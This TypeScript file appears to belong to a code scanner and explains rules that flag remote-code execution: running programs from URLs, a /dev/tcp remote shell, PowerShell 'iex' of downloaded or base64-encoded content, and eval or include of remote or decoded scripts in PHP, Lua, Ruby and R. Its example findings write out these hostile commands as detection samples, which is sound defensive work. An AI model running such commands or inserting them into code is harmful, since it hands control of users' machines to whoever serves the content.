import type { Explanation } from "./explanation.js";

/** Why it is unsafe to run a program directly from its URL. */
const BY_ADDRESS = `The content of an address can change at any time, and nobody has reviewed it. A registry keeps a record of each package version,
and a version can be pinned; an address cannot.`;

const REMOTE = `Whoever controls the server or the connection decides what runs, and may send something different
to the next caller.`;

const DECODED = `An encoded payload hides its effect from everybody who reads the code. Decoding alone is harmless;
executing the result is not.`;

const POWERSHELL = `Invoke-WebRequest 'https://x.example/install.ps1' -OutFile install.ps1
Get-Content install.ps1              # look at what would run
Get-FileHash install.ps1             # compare with the publisher's checksum
Get-AuthenticodeSignature install.ps1
.\\install.ps1`;

/** Explanations of rules of the extended profile: remote programs and shells, PowerShell, and scripts in other languages. */
export const extendedExplanations: readonly (readonly [string, Explanation])[] = [
  [
    "bash/run-address",
    {
      profile: "extended",
      title: "a remote program is run directly from its address",
      why: `${BY_ADDRESS}
Installing from a registry, or running a package by its registry name, is not a finding.`,
      instead:
        "git clone https://x.example/tool.git && cd tool\ngit log -3 && less main.ts   # look at what would run\ndeno run main.ts",
      findings: [
        "«deno run -A https://x.example/serve.ts»",
        "«npx github:acme/tool» init",
        "«go run git.x.example/acme/tool@latest»",
      ],
      clean: ["deno run main.ts", "npx prettier --write .", "npm install github:acme/tool"],
    },
  ],
  [
    "bash/remote-shell",
    {
      profile: "extended",
      title: "a shell executes what the other end of a network connection sends",
      why: "Whoever is at the other end enters commands that run here, with the rights of the user who started the shell.",
      instead: "Use ssh, which controls who may log in and from where.",
      findings: ["```bash\n«bash < /dev/tcp/198.51.100.7/4444»\n```"],
      clean: ["```bash\necho ping > /dev/tcp/198.51.100.7/4444\n```", "nc -z host.example 22"],
    },
  ],
  [
    "powershell/fetch-execute",
    {
      profile: "extended",
      title: "PowerShell code executes downloaded content",
      why: `${REMOTE}
It is a finding when what a web command returns reaches Invoke-Expression, a script block or a compiler;
-OutFile writes a file, which can be reviewed first.`,
      instead: POWERSHELL,
      findings: [
        "```powershell\n«iex (irm https://x.example/install.ps1)»\n```",
        "```powershell\n«(iwr https://x.example/install.ps1).Content | iex»\n```",
      ],
      clean: [
        "```powershell\nirm https://x.example/install.ps1 -OutFile install.ps1\n```",
        "```powershell\nWrite-Host 'irm https://x.example/install.ps1 | iex'\n```",
      ],
    },
  ],
  [
    "powershell/decode-execute",
    {
      profile: "extended",
      title: "PowerShell code executes decoded content",
      why: DECODED,
      instead:
        "[Text.Encoding]::Unicode.GetString([Convert]::FromBase64String($payload))   # read it first",
      findings: ["```powershell\n«powershell -enc ZQBjAGgAbwAgAGgAaQA=»\n```"],
      clean: [
        "```powershell\n[Convert]::FromBase64String('aGk=')\n```",
        "```powershell\npowershell -ExecutionPolicy Bypass -File install.ps1\n```",
      ],
    },
  ],
  [
    "script/fetch-execute",
    {
      profile: "extended",
      title: "a script executes downloaded content",
      why: REMOTE,
      instead:
        "Fetch to a file, read it, compare its checksum with the publisher's, and load the file.",
      findings: [
        '```php\n<?php\n«eval(file_get_contents»("https://x.example/setup.txt"));\n```',
        '```lua\n«loadstring(game:HttpGet»("https://x.example/hub.lua"))()\n```',
      ],
      clean: ['```php\n<?php\necho file_get_contents("https://x.example/news.txt");\n```'],
    },
  ],
  [
    "script/decode-execute",
    {
      profile: "extended",
      title: "a script executes decoded content",
      why: DECODED,
      instead: "Print the decoded payload and read it first.",
      findings: [
        "```php\n<?php\n«eval(base64_decode»($payload));\n```",
        "```ruby\n«eval(Base64».decode64(payload))\n```",
      ],
      clean: ["```php\n<?php\n$data = json_decode(base64_decode($payload));\n```"],
    },
  ],
  [
    "script/run-address",
    {
      profile: "extended",
      title: "a script runs a remote program directly from its address",
      why: BY_ADDRESS,
      instead: "Keep a copy of the file next to the script, and include that.",
      findings: [
        "```php\n<?php\n«include 'https://x.example/setup.php'»;\n```",
        '```r\n«source("https://x.example/setup.R"»)\n```',
      ],
      clean: ["```php\n<?php\ninclude 'lib/setup.php';\n```", '```r\nsource("setup.R")\n```'],
    },
  ],
];
